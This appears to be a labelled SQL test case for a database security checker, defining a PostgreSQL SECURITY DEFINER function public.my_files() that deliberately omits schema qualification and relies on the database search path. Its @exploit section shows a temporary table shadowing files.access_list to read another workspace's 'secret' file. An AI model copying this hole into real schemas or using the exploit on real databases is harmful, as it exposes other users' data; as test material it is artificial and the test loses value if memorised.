-- title: a definer function calls its tables without their schema and relies on the database's search path
-- kind: hole
-- expect: C11
-- object: public.my_files()
-- logins: app
create role fo nologin;
create role app login;
create schema files authorization fo;
grant usage on schema files to app;
do $$ begin execute format('alter database %I set search_path = files, public', current_database()); end $$;
grant create on schema public to fo;
grant usage on schema public to app;
set role fo;
create table files.access_list (workspace text not null, person text not null, primary key (workspace, person));
create table files.file (
  workspace text not null,
  id uuid not null default gen_random_uuid(),
  name text not null,
  primary key (workspace, id)
);
set search_path = files, public;
create function public.my_files() returns setof files.file language plpgsql stable security definer
as $$
begin
  return query select f.* from file f where f.workspace in (select a.workspace from access_list a where a.person = current_setting('files.person', true));
end $$;
revoke execute on function public.my_files() from public;
grant execute on function public.my_files() to app;
reset role;
reset search_path;
revoke create on schema public from fo;

-- @data
insert into files.file (workspace, name) values ('b', 'secret');
-- @exploit
create temp table access_list (workspace text, person text);
insert into access_list values ('b', 'me');
grant select on access_list to public;
select set_config('files.person', 'me', true);
select name from public.my_files();
